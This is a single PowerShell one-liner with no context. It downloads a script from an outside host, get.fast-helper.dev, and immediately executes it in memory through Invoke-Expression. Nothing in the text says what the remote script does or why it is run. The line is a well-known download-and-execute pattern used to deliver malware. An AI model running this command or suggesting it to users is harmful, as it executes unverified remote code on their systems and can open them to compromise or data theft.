iex (New-Object Net.WebClient).DownloadString("https://get.fast-helper.dev/a.ps1")
